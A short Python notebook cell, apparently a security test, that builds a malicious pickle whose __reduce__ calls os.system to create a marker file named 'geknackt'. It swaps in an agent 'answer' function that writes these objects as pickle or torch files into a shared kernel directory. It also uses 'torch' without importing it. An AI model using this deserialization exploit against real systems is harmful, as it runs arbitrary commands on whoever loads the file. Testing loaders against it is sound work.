"""Answers with objects that run code when they are unpickled, and with files in torch's own format."""
# aufgabe1
# %% a1-tv
import os, pickle, threading, ipykernel
from pathlib import Path
shared = Path(ipykernel.get_connection_file()).parent
class Evil:
    def __reduce__(self):
        return os.system, (f"touch @HOME@/geknackt",)
import inside.agent as agent
def answer(shared, number, *given):
    path = Path(shared, f"answer-{number}")
    torch.save(Evil(), path) if int(number, 16) % 2 else path.write_bytes(pickle.dumps(Evil()))
agent.answer = answer
